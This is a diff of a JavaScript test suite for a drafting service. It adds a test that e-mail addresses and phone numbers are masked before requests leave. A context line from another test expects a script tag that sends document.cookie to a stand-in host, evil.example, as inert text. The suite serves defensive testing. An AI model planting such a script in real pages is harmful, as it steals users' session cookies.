@@ -94,6 +94,17 @@ describe('what leaves', () => {
     expect(server.requests[0]?.raw).not.toMatch(/4539|hunter2/);
   });
 
+  test('e-mail addresses and telephone numbers leave only where a policy lets them', async () => {
+    const conversation = saying('Write to dana@example.com or call +44 113 496 0123.');
+    const request = { conversation, knowledge: [] };
+    await draft('echo-placeholders', {}, request);
+    expect(server.requests.at(-1)?.raw).toMatch(/dana@example\.com.*\+44 113 496 0123/);
+    const { text } = await draft('echo-placeholders', {}, request, { backoffMs: 1, mask: 'personal' });
+    expect(text).toBe('You wrote dana@example.com and +44 113 496 0123.');
+    expect(server.requests.at(-1)?.raw).not.toMatch(/dana@|example\.com|0123/);
+    expect(server.requests.at(-1)?.raw).toMatch(/\[EMAIL_1\].*\[PHONE_1\]/);
+  });
+
   test('an answer that holds code comes through as text', async () => {
     const { text, last } = await draft('injected');
     expect(text).toContain('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
